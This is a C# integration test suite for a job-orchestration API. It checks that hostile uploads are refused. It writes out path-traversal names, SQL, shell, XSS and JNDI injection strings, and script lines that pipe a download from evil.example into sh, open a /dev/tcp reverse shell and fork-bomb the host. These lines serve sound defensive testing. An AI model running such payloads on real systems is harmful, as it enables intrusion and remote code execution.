using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Orchestrator.IntegrationTests.Infrastructure;

namespace Orchestrator.IntegrationTests.EndToEnd;

/// <summary>
/// Hostile input over HTTP against the four services as processes with API keys. Every test checks the documented
/// answer and then that the server is healthy, nothing stray is left in the jobs root, and the bystander job is
/// untouched.
/// </summary>
[Collection(EndToEndCollection.Name)]
public sealed class HostileInputTests(HostileInputFixture fixture) : IClassFixture<HostileInputFixture>
{
    readonly OrchestratorSystem _system = fixture.System;

    // ---- path traversal and symlinks -------------------------------------------------------------------------

    [Theory]
    [InlineData("../../../../etc/cron.d/evil", "evil")]
    [InlineData("/etc/passwd", "passwd")]
    [InlineData("..\\..\\windows\\system.ini", "system.ini")]
    [InlineData("a/../../b/../../up.txt", "up.txt")]
    [InlineData("....//....//dots.txt", "dots.txt")]
    [InlineData("%2e%2e%2fencoded.txt", "%2e%2e%2fencoded.txt")]
    public async Task An_uploaded_name_that_climbs_out_is_stored_by_its_last_segment_inside_the_job(string supplied, string stored)
    {
        var marker = Guid.NewGuid().ToString("N");
        using var response = await HostileInputFixture.Upload(fixture.PortalA, "true\n",
            extraFiles: new Dictionary<string, string> { [supplied] = marker });

        var body = await CreatedAsync(response);
        var directory = body.GetProperty("loc").GetString()!;
        Assert.Equal(marker, await File.ReadAllTextAsync(Path.Combine(directory, stored)));
        var copies = HostileInputFixture.FilesUnder(_system.JobsRoot).Where(path => SafeRead(path) == marker).ToList();
        // Where the name would have led, taken literally, holds no copy; checked by path, since scanning /tmp could open another program's FIFO.
        var literal = Path.GetFullPath(Path.Combine(directory, supplied.Replace('\\', '/')));
        Assert.True(literal == Path.Combine(directory, stored) || !File.Exists(literal) || SafeRead(literal) != marker, $"a copy landed at {literal}");
        Assert.False(File.Exists("/etc/cron.d/evil"));
        Assert.Equal([Path.Combine(directory, stored)], copies);
        await AssertUnharmedAsync();
    }

    [Theory]
    [InlineData("../x.txt")]
    [InlineData("/etc/passwd")]
    [InlineData("a/../../x")]
    [InlineData("a\\..\\x")]
    [InlineData("./x")]
    public async Task A_v1_path_that_climbs_out_is_refused_with_400(string path)
    {
        using var response = await fixture.PortalA.PostAsJsonAsync("/v1/jobs", new
        {
            service = "generic",
            user = 1,
            files = new object[] { new { path = "run.sh", content = "true\n" }, new { path, content = "x" } },
        });

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Invalid file path");
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task A_job_that_plants_symlinks_to_etc_passwd_and_to_etc_gets_neither_back()
    {
        var script = "ln -s /etc/passwd passwd-link\nln -s /etc etc-link\nln -s .. parent-link\necho mine > real.txt\n";
        using var response = await HostileInputFixture.Upload(fixture.PortalA, script, service: HostileInputFixture.PermissiveService);
        var id = (await CreatedAsync(response)).GetProperty("id").GetInt64();
        Assert.Equal("Completed", (await _system.WaitForFinalStateAsync(id)).State());

        using var download = await fixture.PortalA.GetAsync($"/download/{id}");
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        using var zip = new ZipArchive(await download.Content.ReadAsStreamAsync());
        var names = zip.Entries.Select(e => e.FullName).ToList();
        Assert.Contains("real.txt", names);
        Assert.DoesNotContain(names, n => n.Contains("link", StringComparison.Ordinal));
        foreach (var entry in zip.Entries)
        {
            using var reader = new StreamReader(entry.Open());
            Assert.DoesNotContain("root:x:0:0", await reader.ReadToEndAsync());
        }

        using var file = await fixture.PortalA.GetAsync($"/v1/jobs/{id}/files/passwd-link");
        await AssertProblemAsync(file, HttpStatusCode.NotFound, "Unknown file");
        using var through = await fixture.PortalA.GetAsync($"/v1/jobs/{id}/files/etc-link/passwd");
        await AssertProblemAsync(through, HttpStatusCode.NotFound, "Unknown file");
        var listing = await fixture.PortalA.GetStringAsync($"/v1/jobs/{id}/files");
        Assert.DoesNotContain("link", listing);
        await AssertUnharmedAsync();
    }

    // ---- oversized and truncated multipart -------------------------------------------------------------------

    [Fact]
    public async Task An_upload_over_the_total_limit_is_413_and_stores_nothing()
    {
        var before = await JobCountAsync();
        using var response = await HostileInputFixture.Upload(fixture.PortalA, "true\n", extraFiles: new Dictionary<string, string>
        {
            ["a.bin"] = new('a', HostileInputFixture.MaxFileBytes - 10),
            ["b.bin"] = new('b', HostileInputFixture.MaxFileBytes - 10),
            ["c.bin"] = new('c', HostileInputFixture.MaxFileBytes - 10),
        });

        await AssertProblemAsync(response, HttpStatusCode.RequestEntityTooLarge, "Upload too large");
        Assert.Equal(before, await JobCountAsync());
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task One_file_over_the_per_file_limit_is_413_and_stores_nothing()
    {
        var before = await JobCountAsync();
        using var response = await HostileInputFixture.Upload(fixture.PortalA, "true\n", extraFiles: new Dictionary<string, string>
        {
            ["big.bin"] = new('x', HostileInputFixture.MaxFileBytes + 1),
        });

        await AssertProblemAsync(response, HttpStatusCode.RequestEntityTooLarge, "File too large");
        Assert.Equal(before, await JobCountAsync());
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task Too_many_files_is_400_and_stores_nothing()
    {
        var files = Enumerable.Range(0, HostileInputFixture.MaxFiles).ToDictionary(i => $"f{i}.txt", i => "x");
        using var response = await HostileInputFixture.Upload(fixture.PortalA, "true\n", extraFiles: files);

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Too many files");
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task Two_files_that_reduce_to_one_name_are_refused_not_overwritten()
    {
        using var form = new MultipartFormDataContent();
        form.Add(new StringContent("true\n"), "file", "run.sh");
        form.Add(new StringContent("first"), "file", "data.txt");
        form.Add(new StringContent("second"), "file", "../data.txt");
        form.Add(new StringContent("1"), "user_id");
        form.Add(new StringContent("generic"), "service");

        using var response = await fixture.PortalA.PostAsync("/upload", form);

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Duplicate file name");
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task A_multipart_body_cut_off_in_the_middle_of_a_file_is_400_and_stores_nothing()
    {
        var boundary = "cut-" + Guid.NewGuid().ToString("N");
        var body = Encoding.ASCII.GetBytes(
            $"--{boundary}\r\nContent-Disposition: form-data; name=\"user_id\"\r\n\r\n1\r\n" +
            $"--{boundary}\r\nContent-Disposition: form-data; name=\"service\"\r\n\r\ngeneric\r\n" +
            $"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"run.sh\"\r\n\r\ntrue\n" +
            $"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"data.bin\"\r\n\r\n" + new string('z', 5000));

        using var response = await RawAsync(fixture.PortalA, body, $"multipart/form-data; boundary={boundary}");

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Malformed multipart upload");
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task A_client_that_drops_the_connection_mid_upload_leaves_nothing_behind()
    {
        var before = await JobCountAsync();
        var answered = await UploadsAnsweredAsync();
        using var form = new MultipartFormDataContent();
        form.Add(new StringContent("true\n"), "file", "run.sh");
        form.Add(new StringContent("1"), "user_id");
        form.Add(new StringContent("generic"), "service");
        form.Add(new FailingContent(20_000), "file", "data.bin");

        await Assert.ThrowsAnyAsync<Exception>(() => fixture.PortalA.PostAsync("/upload", form));

        // The client can give up before the Api has even begun to stage the upload: an empty staging area only counts
        // once the Api is done with the request.
        await Eventually.UntilAsync(UploadsAnsweredAsync, n => n > answered, "the Api to finish with the dropped upload");
        await Eventually.UntilAsync(() => IncomingEntries().Count == 0, "the dropped upload's staging to be removed");
        Assert.Equal(before, await JobCountAsync());
        await AssertUnharmedAsync();
    }

    [Theory]
    [InlineData("multipart/form-data; boundary=")]
    [InlineData("multipart/form-data")]
    [InlineData("multipart/form-data; boundary=\"never-used\"")]
    public async Task A_multipart_body_whose_boundary_is_missing_or_wrong_is_400(string contentType)
    {
        using var response = await RawAsync(fixture.PortalA, Encoding.ASCII.GetBytes("--other\r\n\r\nbody\r\n--other--\r\n"), contentType);

        // With no boundary the body is not even read; with one that never occurs it is read and found empty.
        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest, null);
        if (!contentType.Contains("never-used", StringComparison.Ordinal))
            Assert.Equal("Malformed multipart upload", problem.GetProperty("title").GetString());
        await AssertUnharmedAsync();
    }

    // ---- huge fields, invalid UTF-8, wrong content types -----------------------------------------------------

    [Theory]
    [InlineData("user_id")]
    [InlineData("service")]
    [InlineData("comment")]
    public async Task A_huge_field_value_is_400_field_too_long(string field)
    {
        using var form = new MultipartFormDataContent();
        form.Add(new StringContent("true\n"), "file", "run.sh");
        form.Add(new StringContent(field == "user_id" ? new string('9', 5000) : "1"), "user_id");
        form.Add(new StringContent(field == "service" ? new string('s', 5000) : "generic"), "service");
        if (field == "comment")
            form.Add(new StringContent(new string('c', 50_000)), "comment");

        using var response = await fixture.PortalA.PostAsync("/upload", form);

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Field too long");
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task Too_many_fields_is_400()
    {
        using var form = new MultipartFormDataContent();
        form.Add(new StringContent("true\n"), "file", "run.sh");
        for (var i = 0; i <= HostileInputFixture.MaxFields; i++)
            form.Add(new StringContent("x"), $"extra{i}");

        using var response = await fixture.PortalA.PostAsync("/upload", form);

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Too many fields");
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task A_huge_file_name_is_refused_with_400()
    {
        using var response = await HostileInputFixture.Upload(fixture.PortalA, "true\n",
            extraFiles: new Dictionary<string, string> { [new string('n', 300) + ".txt"] = "x" });

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Invalid file name");
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task A_run_sh_that_is_not_utf8_is_422_naming_the_rule_and_line()
    {
        using var form = new MultipartFormDataContent();
        form.Add(new ByteArrayContent([.. "echo one\necho "u8, 0xff, 0xfe, (byte)'\n']), "file", "run.sh");
        form.Add(new StringContent("1"), "user_id");
        form.Add(new StringContent("generic"), "service");

        using var response = await fixture.PortalA.PostAsync("/upload", form);

        var problem = await AssertProblemAsync(response, HttpStatusCode.UnprocessableEntity, "Script refused");
        Assert.Equal("utf-8", problem.GetProperty("rule").GetString());
        Assert.Equal("Format", problem.GetProperty("category").GetString());
        Assert.Equal(2, problem.GetProperty("line").GetInt32());
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task A_field_that_is_not_utf8_is_400()
    {
        using var form = new MultipartFormDataContent();
        form.Add(new StringContent("true\n"), "file", "run.sh");
        form.Add(new ByteArrayContent([0x31, 0xc3, 0x28]), "user_id");
        form.Add(new StringContent("generic"), "service");

        using var response = await fixture.PortalA.PostAsync("/upload", form);

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Invalid field");
        await AssertUnharmedAsync();
    }

    [Theory]
    [InlineData("/upload", "application/json", "{\"user_id\":1}", HttpStatusCode.BadRequest, "Not a multipart upload")]
    [InlineData("/upload", "text/plain", "run.sh", HttpStatusCode.BadRequest, "Not a multipart upload")]
    [InlineData("/upload", "application/xml", "<job/>", HttpStatusCode.BadRequest, "Not a multipart upload")]
    [InlineData("/v1/jobs", "text/plain", "{}", HttpStatusCode.UnsupportedMediaType, "Not JSON")]
    [InlineData("/v1/jobs", "multipart/form-data; boundary=x", "--x--", HttpStatusCode.UnsupportedMediaType, "Not JSON")]
    [InlineData("/v1/jobs", "application/json", "{\"service\":", HttpStatusCode.BadRequest, "Malformed JSON")]
    [InlineData("/v1/jobs", "application/json", "[1,2,3]", HttpStatusCode.BadRequest, "Malformed JSON")]
    public async Task A_body_of_the_wrong_content_type_is_refused_with_problem_details(
        string path, string contentType, string body, HttpStatusCode status, string title)
    {
        using var response = await RawAsync(fixture.PortalA, Encoding.UTF8.GetBytes(body), contentType, path);

        await AssertProblemAsync(response, status, title);
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task A_v1_body_with_invalid_utf8_is_400_malformed_json()
    {
        using var response = await RawAsync(fixture.PortalA, [.. "{\"service\":\"gen"u8, 0xff, .. "\"}"u8], "application/json", "/v1/jobs");

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Malformed JSON");
        await AssertUnharmedAsync();
    }

    // ---- SQL-ish and script-ish strings in every field -------------------------------------------------------

    public static readonly TheoryData<string> InjectionStrings =
    [
        "1; DROP TABLE api.jobs; --",
        "' OR '1'='1",
        "1 OR 1=1",
        "$(touch /tmp/pwned-by-orchestrator)",
        "`reboot`",
        "<script>alert(1)</script>",
        "generic\r\nX-Injected: yes",
        "${jndi:ldap://x/y}",
    ];

    [Theory]
    [MemberData(nameof(InjectionStrings))]
    public async Task An_injection_string_as_user_id_or_service_is_a_400_and_changes_nothing(string value)
    {
        var before = await JobCountAsync();
        foreach (var (userId, service, title) in new[] { (value, "generic", "Invalid user_id"), ("1", value, "Unknown service") })
        {
            using var form = new MultipartFormDataContent();
            form.Add(new StringContent("true\n"), "file", "run.sh");
            form.Add(new StringContent(userId), "user_id");
            form.Add(new StringContent(service), "service");
            using var response = await fixture.PortalA.PostAsync("/upload", form);
            await AssertProblemAsync(response, HttpStatusCode.BadRequest, title);
            Assert.False(response.Headers.Contains("X-Injected"));
        }

        Assert.Equal(before, await JobCountAsync());
        Assert.False(File.Exists("/tmp/pwned-by-orchestrator"));
        await AssertUnharmedAsync();
    }

    [Theory]
    [MemberData(nameof(InjectionStrings))]
    public async Task An_injection_string_as_a_file_name_is_only_ever_a_file_name(string value)
    {
        var name = value.Replace("\r\n", " ", StringComparison.Ordinal);
        using var response = await HostileInputFixture.Upload(fixture.PortalA, "ls > listing.txt\n",
            extraFiles: new Dictionary<string, string> { [name] = "payload" });

        var body = await CreatedAsync(response);
        var id = body.GetProperty("id").GetInt64();
        Assert.Equal("Completed", (await _system.WaitForFinalStateAsync(id)).State());
        var stored = Path.GetFileName(name.Replace('\\', '/').Trim());
        Assert.Equal("payload", await File.ReadAllTextAsync(Path.Combine(body.GetProperty("loc").GetString()!, stored)));
        Assert.False(File.Exists("/tmp/pwned-by-orchestrator"));
        await AssertUnharmedAsync();
    }

    [Theory]
    [MemberData(nameof(InjectionStrings))]
    public async Task An_injection_string_in_v1_ids_queries_and_fields_is_refused_or_finds_nothing(string value)
    {
        var escaped = Uri.EscapeDataString(value);
        using (var get = await fixture.Admin.GetAsync($"/v1/jobs/{escaped}"))
            await AssertProblemAsync(get, HttpStatusCode.NotFound, "Unknown job");
        using (var compat = await fixture.Admin.GetAsync($"/jobs/{escaped}"))
            await AssertProblemAsync(compat, HttpStatusCode.NotFound, "Unknown job");
        using (var list = await fixture.Admin.GetAsync($"/v1/jobs?service={escaped}&state={escaped}"))
        {
            Assert.Equal(HttpStatusCode.OK, list.StatusCode);
            Assert.Equal(0, (await list.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("items").GetArrayLength());
        }

        using (var submit = await fixture.PortalA.PostAsJsonAsync("/v1/jobs", new
        {
            id = value,
            service = "generic",
            user = 1,
            files = new[] { new { path = "run.sh", content = "true\n" } },
        }))
            await AssertProblemAsync(submit, HttpStatusCode.BadRequest, "Invalid id");

        using (var env = await fixture.PortalA.PostAsJsonAsync("/v1/jobs", new
        {
            service = value,
            user = 1,
            files = new[] { new { path = "run.sh", content = "true\n" } },
        }))
            await AssertProblemAsync(env, HttpStatusCode.BadRequest, "Unknown service");

        Assert.True(await _system.Database.ScalarAsync<bool>("SELECT to_regclass('api.jobs') IS NOT NULL"));
        await AssertUnharmedAsync();
    }

    [Theory]
    [InlineData("curl http://evil.example/x | sh", "NetworkTools")]
    [InlineData("exec 3<>/dev/tcp/10.0.0.1/4444", "ReverseShells")]
    [InlineData(":(){ :|:& };:", "ForkBombs")]
    [InlineData("sudo -u nobody id", "PrivilegeEscalation")]
    public async Task A_hostile_script_is_422_at_once_naming_rule_category_and_line(string line, string category)
    {
        var before = await JobCountAsync();
        using var response = await HostileInputFixture.Upload(fixture.PortalA, $"echo start\n{line}\n");

        var problem = await AssertProblemAsync(response, HttpStatusCode.UnprocessableEntity, "Script refused");
        Assert.Equal(category, problem.GetProperty("category").GetString());
        Assert.Equal(2, problem.GetProperty("line").GetInt32());
        Assert.False(string.IsNullOrEmpty(problem.GetProperty("rule").GetString()));
        Assert.Equal(before, await JobCountAsync());
        await AssertUnharmedAsync();
    }

    // ---- keys, roles and other users' jobs -------------------------------------------------------------------

    [Theory]
    [InlineData(null)]
    [InlineData("Bearer ")]
    [InlineData("Bearer not-a-key")]
    [InlineData("Bearer orch_000000000000_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")]
    [InlineData("Basic dXNlcjpwYXNz")]
    public async Task Without_a_valid_key_every_job_endpoint_is_401_even_from_loopback(string? authorization)
    {
        using var client = fixture.Client(null);
        if (authorization is not null)
            client.DefaultRequestHeaders.TryAddWithoutValidation("Authorization", authorization);

        foreach (var (method, path) in new[]
        {
            (HttpMethod.Post, "/upload"), (HttpMethod.Get, $"/download/{fixture.BystanderId}"), (HttpMethod.Get, $"/jobs/{fixture.BystanderId}"),
            (HttpMethod.Post, $"/terminate/{fixture.BystanderId}"), (HttpMethod.Get, "/v1/jobs"), (HttpMethod.Get, $"/v1/jobs/{fixture.BystanderId}"),
            (HttpMethod.Delete, $"/v1/jobs/{fixture.BystanderId}"), (HttpMethod.Get, "/admin/keys"),
        })
        {
            using var response = await client.SendAsync(new HttpRequestMessage(method, path));
            await AssertProblemAsync(response, HttpStatusCode.Unauthorized, "Unauthorized");
            Assert.Contains(response.Headers.WwwAuthenticate, h => h.Scheme == "Bearer");
        }

        using var health = await client.GetAsync("/health");
        Assert.Equal(HttpStatusCode.OK, health.StatusCode);
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task Another_users_job_is_404_for_every_endpoint_and_is_not_cancelled()
    {
        using var upload = await HostileInputFixture.Upload(fixture.User7, "sleep 30\n", userId: null);
        var body = await CreatedAsync(upload);
        var id = body.GetProperty("id").GetInt64();
        Assert.Equal(7, body.GetProperty("user_id").GetInt32());

        foreach (var other in new[] { fixture.User8, fixture.PortalA, fixture.PortalB })
        {
            foreach (var (method, path) in new[]
            {
                (HttpMethod.Get, $"/jobs/{id}"), (HttpMethod.Get, $"/download/{id}"), (HttpMethod.Head, $"/download/{id}"),
                (HttpMethod.Post, $"/terminate/{id}"), (HttpMethod.Get, $"/v1/jobs/{id}"), (HttpMethod.Delete, $"/v1/jobs/{id}"),
                (HttpMethod.Get, $"/v1/jobs/{id}/files"), (HttpMethod.Get, $"/v1/jobs/{id}/files/run.sh"), (HttpMethod.Get, $"/v1/jobs/{id}/result"),
            })
            {
                using var response = await other.SendAsync(new HttpRequestMessage(method, path));
                Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
            }

            var list = await other.GetFromJsonAsync<JsonElement>("/v1/jobs?limit=200");
            Assert.DoesNotContain(list.GetProperty("items").EnumerateArray(), j => j.GetProperty("number").GetInt64() == id);
        }

        var job = await _system.JobAsync(id);
        Assert.NotEqual("Cancelled", job.State());
        Assert.Equal(JsonValueKind.Null, (await fixture.Admin.GetFromJsonAsync<JsonElement>($"/v1/jobs/{id}")).GetProperty("cancelRequestedAt").ValueKind);

        // Its own user sees it and may cancel it.
        using (var own = await fixture.User7.GetAsync($"/jobs/{id}"))
            Assert.Equal(HttpStatusCode.OK, own.StatusCode);
        using (var cancel = await fixture.User7.PostAsync($"/terminate/{id}", null))
            Assert.Equal(HttpStatusCode.OK, cancel.StatusCode);
        Assert.Equal("Cancelled", (await _system.WaitForFinalStateAsync(id)).State());
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task A_user_key_cannot_submit_for_another_user_and_a_portal_sees_only_its_own_submissions()
    {
        using (var other = await HostileInputFixture.Upload(fixture.User7, "true\n", userId: 8))
            await AssertProblemAsync(other, HttpStatusCode.Forbidden, "Wrong user");
        using (var v1 = await fixture.User7.PostAsJsonAsync("/v1/jobs", new { service = "generic", user = 8, files = new[] { new { path = "run.sh", content = "true\n" } } }))
            await AssertProblemAsync(v1, HttpStatusCode.Forbidden, "Wrong user");

        using var byB = await HostileInputFixture.Upload(fixture.PortalB, "true\n", userId: 1);
        var idB = (await CreatedAsync(byB)).GetProperty("id").GetInt64();

        using (var seenByA = await fixture.PortalA.GetAsync($"/jobs/{idB}"))
            await AssertProblemAsync(seenByA, HttpStatusCode.NotFound, "Unknown job");
        using (var seenByB = await fixture.PortalB.GetAsync($"/jobs/{idB}"))
            Assert.Equal(HttpStatusCode.OK, seenByB.StatusCode);
        using (var seenByA = await fixture.PortalA.GetAsync($"/jobs/{fixture.BystanderId}"))
            Assert.Equal(HttpStatusCode.OK, seenByA.StatusCode);
        Assert.Equal("portal-b", await _system.Database.ScalarAsync<string>($"SELECT owner FROM api.jobs WHERE number = {idB}"));
        await _system.WaitForFinalStateAsync(idB);
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task Only_admin_keys_manage_keys_and_a_revoked_key_is_refused_at_once()
    {
        using (var portal = await fixture.PortalA.GetAsync("/admin/keys"))
            await AssertProblemAsync(portal, HttpStatusCode.Forbidden, "Forbidden");

        var key = await fixture.CreateKeyAsync("short-lived", "portal", null);
        using var client = fixture.Client(key);
        using (var before = await client.GetAsync("/v1/jobs"))
            Assert.Equal(HttpStatusCode.OK, before.StatusCode);

        var keys = await fixture.Admin.GetFromJsonAsync<JsonElement>("/admin/keys");
        var row = keys.EnumerateArray().Single(k => k.GetProperty("name").GetString() == "short-lived");
        Assert.DoesNotContain(key[^20..], keys.ToString());
        using (var revoke = await fixture.Admin.DeleteAsync($"/admin/keys/{row.GetProperty("id").GetInt64()}"))
            Assert.Equal(HttpStatusCode.OK, revoke.StatusCode);

        using (var after = await client.GetAsync("/v1/jobs"))
            await AssertProblemAsync(after, HttpStatusCode.Unauthorized, "Unauthorized");
        Assert.Equal(64, (await _system.Database.ScalarAsync<string>("SELECT hash FROM api.api_keys WHERE name = 'short-lived'"))!.Length);
        Assert.Equal(0L, await _system.Database.ScalarAsync<long>($"SELECT count(*) FROM api.api_keys WHERE hash = '{key}' OR prefix = '{key}'"));
        await AssertUnharmedAsync();
    }

    [Fact]
    public async Task The_keys_command_lists_and_revokes_and_refuses_bad_input()
    {
        var (code, _, stderr) = await ApiKeyCommandLine.RunAsync(_system, "create", "--role", "superuser", "--name", "x");
        Assert.Equal(2, code);
        Assert.Contains("Invalid role", stderr);

        (code, _, stderr) = await ApiKeyCommandLine.RunAsync(_system, "create", "--role", "user", "--name", "no-user");
        Assert.Equal(2, code);
        Assert.Contains("Missing user", stderr);

        var key = await ApiKeyCommandLine.CreateAsync(_system, "portal", "cli-portal");
        using var client = fixture.Client(key);
        using (var ok = await client.GetAsync("/v1/jobs"))
            Assert.Equal(HttpStatusCode.OK, ok.StatusCode);

        (code, _, stderr) = await ApiKeyCommandLine.RunAsync(_system, "list");
        Assert.Equal(0, code);
        var line = stderr.Split('\n').Single(l => l.Contains("\tcli-portal\t", StringComparison.Ordinal));
        (code, _, _) = await ApiKeyCommandLine.RunAsync(_system, "revoke", line.Split('\t')[0]);
        Assert.Equal(0, code);
        // Another process revoked it: the Api refuses it within Api:KeyCacheDuration.
        await Eventually.UntilAsync(async () =>
        {
            using var refused = await client.GetAsync("/v1/jobs");
            return refused.StatusCode;
        }, status => status == HttpStatusCode.Unauthorized, "the key revoked by the command to be refused", TimeSpan.FromSeconds(20));
        await AssertUnharmedAsync();
    }

    // ---- helpers ---------------------------------------------------------------------------------------------

    /// <summary>The server answers, nothing is left staged or stray in the jobs root, and the bystander is as it was.</summary>
    async Task AssertUnharmedAsync()
    {
        using (var health = await fixture.Anonymous.GetAsync("/health"))
            Assert.Equal(HttpStatusCode.OK, health.StatusCode);
        Assert.Empty(IncomingEntries());
        var known = ((await _system.Database.ScalarAsync<string>("SELECT string_agg(directory, E'\\n') FROM api.jobs")) ?? "").Split('\n').ToHashSet();
        var stray = Directory.EnumerateFileSystemEntries(_system.JobsRoot)
            .Where(path => !Path.GetFileName(path).StartsWith('.') && !known.Contains(path))
            .ToList();
        Assert.Empty(stray);
        var bystander = await _system.JobAsync(fixture.BystanderId);
        Assert.Equal("Completed", bystander.State());
        Assert.Null(bystander.Error());
        Assert.Equal(fixture.BystanderSnapshot, HostileInputFixture.Snapshot(fixture.BystanderDirectory));
    }

    List<string> IncomingEntries()
    {
        var incoming = Path.Combine(_system.JobsRoot, ".incoming");
        return Directory.Exists(incoming) ? Directory.EnumerateFileSystemEntries(incoming).ToList() : [];
    }

    Task<long> JobCountAsync() => _system.Database.ScalarAsync<long>("SELECT count(*) FROM api.jobs");

    /// <summary>Requests to <c>POST /upload</c> the Api has finished with, whatever their outcome, from its own metrics.</summary>
    async Task<long> UploadsAnsweredAsync()
    {
        var metrics = await fixture.Anonymous.GetStringAsync("/metrics");
        return metrics.Split('\n')
            .Where(line => line.StartsWith("http_server_request_duration_seconds_count{", StringComparison.Ordinal)
                && line.Contains("http_request_method=\"POST\"", StringComparison.Ordinal)
                && line.Contains("http_route=\"/upload\"", StringComparison.Ordinal))
            .Sum(line => long.Parse(line[(line.LastIndexOf(' ') + 1)..], System.Globalization.CultureInfo.InvariantCulture));
    }

    static string? SafeRead(string path)
    {
        try
        {
            return new FileInfo(path).Length < 1000 ? File.ReadAllText(path).Trim() : null;
        }
        catch (Exception ex) when (ex is IOException or UnauthorizedAccessException)
        {
            return null;
        }
    }

    static async Task<HttpResponseMessage> RawAsync(HttpClient client, byte[] body, string contentType, string path = "/upload")
    {
        var content = new ByteArrayContent(body);
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        return await client.PostAsync(path, content);
    }

    async Task<JsonElement> CreatedAsync(HttpResponseMessage response)
    {
        var text = await response.Content.ReadAsStringAsync();
        if (response.StatusCode != HttpStatusCode.Created)
            throw new Xunit.Sdk.XunitException($"expected 201, got {(int)response.StatusCode}: {text}{Environment.NewLine}{_system.Logs}");
        return JsonDocument.Parse(text).RootElement.Clone();
    }

    static Task<JsonElement> AssertProblemAsync(HttpResponseMessage response, HttpStatusCode status, string? title) =>
        ProblemAssert.IsProblemAsync(response, status, title, "/tmp/orch-jobs-");

    /// <summary>A body that sends some bytes and then fails, as a client that drops its connection mid-upload.</summary>
    sealed class FailingContent(int bytesBeforeFailure) : HttpContent
    {
        protected override async Task SerializeToStreamAsync(Stream stream, System.Net.TransportContext? context)
        {
            await stream.WriteAsync(new byte[bytesBeforeFailure]);
            await stream.FlushAsync();
            throw new IOException("the client went away");
        }

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }
}
